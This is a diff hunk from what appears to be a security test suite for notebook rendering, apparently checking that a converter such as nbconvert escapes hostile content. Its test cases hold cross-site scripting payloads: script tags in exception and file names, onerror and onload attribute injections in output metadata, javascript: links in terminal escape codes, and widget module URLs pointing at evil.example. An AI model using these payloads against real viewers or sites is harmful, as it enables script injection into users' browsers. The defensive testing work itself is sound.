@@ -102,7 +102,8 @@ view._view_module, view._view_name, view._model_module = "https://evil.example/x
 display(view)""",)),
     Attack("names-in-errors", "names of exceptions and files with markup in them", {
         "add": "Evil = type('<script>evil()</script>', (Exception,), {})\ndef add(a, b):\n    raise Evil('<img src=x onerror=evil()>')"
-    }, end=("raise type('</pre><script>evil()</script>', (Exception,), {})('\\x1b]8;;javascript:evil()\\x07x\\x1b]8;;\\x07 \\x1b[38;5;\"onload=evil()m')",)),
+    }, end=("raise type('</pre><script>evil()</script>', (Exception,), {})('\\x1b]8;;javascript:evil()\\x07x\\x1b]8;;\\x07 \\x1b[38;5;\"onload=evil()m')",),
+           unproven="nbconvert escapes tracebacks"),
     Attack("attachments", "an attached picture with scripts in it, links in prose, and a title that ends the title", edit=_attached),
     Attack("metadata-of-output", "metadata of outputs that becomes attributes of elements", end=(
         f"{SHOW}display({{'image/png': 'iVBORw0KGgo='}}, raw=True, metadata={{'image/png': {{'width': '1\" onload=\"evil()', 'height': '\\'><script>evil()</script>', 'alt': '\"><script>evil()</script>'}}, 'tags': ['\"><script>evil()</script>'], 'filenames': {{'image/png': '//evil.example'}}}})",
